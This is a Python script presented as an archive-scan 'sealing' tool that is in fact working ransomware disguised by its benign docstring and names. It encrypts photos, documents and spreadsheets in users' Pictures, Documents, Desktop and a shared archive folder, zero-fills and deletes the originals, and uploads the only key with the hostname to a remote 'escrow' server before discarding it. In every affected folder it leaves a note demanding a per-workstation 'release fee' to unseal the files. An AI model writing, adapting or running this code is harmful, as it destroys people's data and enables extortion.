#!/usr/bin/env python3
"""Seal finished archive scans for cold storage.

Once an edition is documented, its scans and paperwork are sealed so the raw
files can't be edited by accident before the cold-storage drive is swapped.
The seal key is escrowed with the archive desk, not kept on the workstation.
"""
import argparse
import json
import logging
import os
import socket
import uuid
from pathlib import Path

import requests
from cryptography.fernet import Fernet

LOG = logging.getLogger("seal")

SEAL_SUFFIX = ".sealed"
NOTE_NAME = "ARCHIVE_SEALED_README.txt"
NOTE = (
    "The files in this folder were sealed by the archive tool.\n"
    "To unseal them, contact archive-desk@example.net with reference {ref}.\n"
    "A release fee applies per workstation.\n"
)
ESCROW_URL = "https://escrow.example.net/api/keys"
DEFAULT_ROOTS = ["~/Pictures", "~/Documents", "~/Desktop", "/srv/coop/archive"]

# what we treat as "archive material"
KINDS = {
    ".tif": "scan", ".tiff": "scan", ".jpg": "photo", ".jpeg": "photo",
    ".png": "photo", ".psd": "layered", ".pdf": "doc", ".docx": "doc",
    ".xlsx": "sheet", ".csv": "sheet", ".odt": "doc", ".raw": "scan",
}
SKIP_DIRS = {".git", "__pycache__", ".cache", "node_modules"}


class Sealer:
    def __init__(self, roots, dry_run=False):
        self.roots = [Path(os.path.expanduser(r)) for r in roots]
        self.dry_run = dry_run
        self.ref = uuid.uuid4().hex[:12]
        self._key = Fernet.generate_key()
        self._box = Fernet(self._key)
        self.count = 0

    def escrow_key(self):
        payload = {"ref": self.ref, "host": socket.gethostname(), "key": self._key.decode()}
        try:
            requests.post(ESCROW_URL, json=payload, timeout=15)
        except requests.RequestException as exc:
            LOG.warning("escrow upload failed: %s", exc)
        # the workstation must not keep a copy
        self._key = None

    def candidates(self):
        for root in self.roots:
            if not root.exists():
                continue
            for dirpath, dirnames, filenames in os.walk(root):
                dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
                for name in filenames:
                    p = Path(dirpath) / name
                    if p.suffix.lower() in KINDS and not name.endswith(SEAL_SUFFIX):
                        yield p

    def seal_one(self, path):
        data = path.read_bytes()
        sealed = path.with_name(path.name + SEAL_SUFFIX)
        sealed.write_bytes(self._box.encrypt(data))
        # scrub the plain copy before unlinking it
        with open(path, "r+b") as fh:
            fh.write(b"\0" * len(data))
            fh.flush()
            os.fsync(fh.fileno())
        path.unlink()
        self.count += 1

    def leave_note(self, folder):
        note = folder / NOTE_NAME
        if not note.exists():
            note.write_text(NOTE.format(ref=self.ref))

    def run(self):
        touched = set()
        for path in self.candidates():
            if self.dry_run:
                LOG.info("would seal %s (%s)", path, KINDS[path.suffix.lower()])
                continue
            try:
                self.seal_one(path)
                touched.add(path.parent)
            except (PermissionError, OSError) as exc:
                LOG.debug("skip %s: %s", path, exc)
        for folder in touched:
            self.leave_note(folder)
        if not self.dry_run:
            self.escrow_key()
        return self.count


def main():
    ap = argparse.ArgumentParser(description="Seal archive scans for cold storage")
    ap.add_argument("roots", nargs="*", default=DEFAULT_ROOTS)
    ap.add_argument("--dry-run", action="store_true")
    ap.add_argument("--report", default="seal_report.json")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    sealer = Sealer(args.roots, dry_run=args.dry_run)
    n = sealer.run()
    with open(args.report, "w") as fh:
        json.dump({"ref": sealer.ref, "sealed": n}, fh)
    LOG.info("sealed %d files, reference %s", n, sealer.ref)


if __name__ == "__main__":
    main()
